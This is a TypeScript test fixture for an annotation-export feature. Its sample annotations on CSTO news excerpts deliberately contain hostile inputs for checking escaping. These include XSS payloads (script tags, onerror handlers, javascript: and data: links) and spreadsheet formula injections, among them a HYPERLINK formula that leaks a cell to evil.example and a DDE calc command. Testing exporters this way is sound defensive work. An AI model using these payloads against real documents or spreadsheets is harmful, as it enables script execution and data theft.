/**
 * Fixed annotations and articles for the export tests and golden files: real-
 * looking CSTO excerpts plus every kind of character that has broken exporters
 * elsewhere (Markdown and HTML syntax in quotes, spreadsheet formulas, scripts
 * and javascript: links in notes, Cyrillic, emoji, an article the archive no
 * longer has). Test data only; nothing in the app imports it.
 */
import type { Annotation, ColorDef } from './annotation-model';
import { DEFAULT_COLORS } from './annotation-model';
import type { CitedDoc, ExportInput } from './types';
import type { Snapshot } from './backup/backup-format';

export const FIXTURE_DOCS: CitedDoc[] = [
  { id: 'csto-2013-05-28-minsk', title: 'CSTO Collective Security Council meets in Minsk', published: '2013-05-28' },
  { id: 'csto-2019-11-29-bishkek', title: 'Session of the "CSTO" Council *on* [border] security & <cooperation>', published: '2019-11-29' },
  { id: 'csto-2024-02-01-ru', title: 'Заседание Совета министров иностранных дел ОДКБ', published: '2024-02-01' },
  { id: 'csto-undated', title: 'Brief: exercises "Interaction"', published: null },
  // No dated title line: the reader shows the date of the event the text opens with.
  { id: 'csto-2017-event', title: 'Exercises of the CSTO Collective Rapid Reaction Force', published: null, eventDate: '2017-10-09' },
];

const base = {
  archiveId: 'bundled',
  textHash: 'sha256:0f3c',
  created: '2024-03-01T10:00:00.000Z',
  modified: '2024-03-02T11:30:00.000Z',
};

function ann(id: string, docId: string, color: Annotation['color'], exact: string, note: string, tags: string[], start: number): Annotation {
  return {
    id,
    docId,
    color,
    quote: { type: 'TextQuoteSelector', exact, prefix: 'the Council said that ', suffix: ' according to the text' },
    position: { type: 'TextPositionSelector', start, end: start + exact.length },
    note,
    tags,
    ...base,
  };
}

export const FIXTURE_ANNOTATIONS: Annotation[] = [
  ann(
    'a1-plain',
    'csto-2013-05-28-minsk',
    'yellow',
    'The heads of state signed the declaration on the collective security of the member states.',
    'Key outcome of the **Minsk** session; compare with [the 2012 summit](https://example.org/2012).',
    ['summit', 'Minsk 2013'],
    120,
  ),
  ann(
    'a2-markdown',
    'csto-2019-11-29-bishkek',
    'green',
    '# Not a heading *not bold* [not a link](javascript:alert(1)) | a | table |\n- not a list\n1. not a numbered item\n---\n==not marked== $not math$ %%not a comment%% ^block `code` \\ back\\slash & <b>not bold</b>',
    '',
    ['markdown'],
    40,
  ),
  ann(
    'a3-html',
    'csto-2019-11-29-bishkek',
    'blue',
    '<script>window.__pwned = 1</script> <img src=x onerror="window.__pwned=2"> "quoted" & \'single\' </blockquote>',
    'Note with active content: <script>window.__pwned = 3</script> <img src=x onerror=window.__pwned=4>\n\n[click me](javascript:window.__pwned=5) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <a href="javascript:alert(1)">raw</a>\n\n```\n<script>in code stays text</script>\n```\n\nAnd `<b>inline code</b>` plus a fine link: <https://example.org/ok>.',
    ['xss', '<b>tag</b>'],
    300,
  ),
  ann(
    'a4-csv',
    'csto-2013-05-28-minsk',
    'pink',
    '=HYPERLINK("http://evil.example/?leak="&A1,"click"), and a comma\r\nand a second line',
    '+cmd|\' /C calc\'!A0',
    ['@SUM(1+1)', '-minus'],
    900,
  ),
  ann(
    'a5-cyrillic',
    'csto-2024-02-01-ru',
    'purple',
    'Министры обсудили ситуацию в Центральной Азии 🌍 и на «внешних границах».',
    'Перевод: the ministers discussed Central Asia.\n\nRight-to-left: שלום',
    ['Центральная Азия'],
    15,
  ),
  ann(
    'a6-unknown-doc',
    'csto-removed-article',
    'orange',
    'A passage from an article the archive no longer has.',
    'Kept and exported anyway.',
    [],
    0,
  ),
  ann('a7-undated', 'csto-undated', 'yellow', '-starts with a minus and\ttab', '@mention at the start', ['summit'], 5),
];

export const FIXTURE_COLORS: ColorDef[] = DEFAULT_COLORS.map((c) => (c.id === 'pink' ? { ...c, label: 'Doubt "why?"' } : c));

export function fixtureInput(overrides: Partial<ExportInput> = {}): ExportInput {
  return {
    annotations: FIXTURE_ANNOTATIONS,
    docs: new Map(FIXTURE_DOCS.map((d) => [d.id, d])),
    colors: FIXTURE_COLORS,
    linkBase: 'archive-reader://',
    title: 'Fixture excerpts: "quotes", #hash & <tags>',
    generatedAt: '2026-01-15T09:00:00.000Z',
    appVersion: '0.1.0',
    ...overrides,
  };
}

/** A whole notes database: the fixed annotations plus article state, tags and settings. */
export const FIXTURE_SNAPSHOT: Snapshot = {
  annotations: FIXTURE_ANNOTATIONS,
  docState: [
    { archiveId: 'bundled', docId: 'csto-2013-05-28-minsk', tags: ['summit'], note: 'Article note with <script>x</script>', starred: true, readingPosition: 0.42, modified: '2024-03-03T08:00:00.000Z' },
    { archiveId: 'bundled', docId: 'csto-2024-02-01-ru', tags: [], note: '', starred: false, readingPosition: null, modified: '2024-03-04T08:00:00Z' },
  ],
  tags: [
    { name: 'summit', color: '#ffe066', created: '2024-03-01T10:00:00.000Z' },
    { name: 'Центральная Азия', color: '#0a141e', created: '2024-03-01T10:00:00.000Z' },
  ],
  settings: [
    { key: 'colors', value: [{ id: 'pink', label: 'Doubt' }] },
    { key: 'theme', value: 'sepia' },
  ],
};
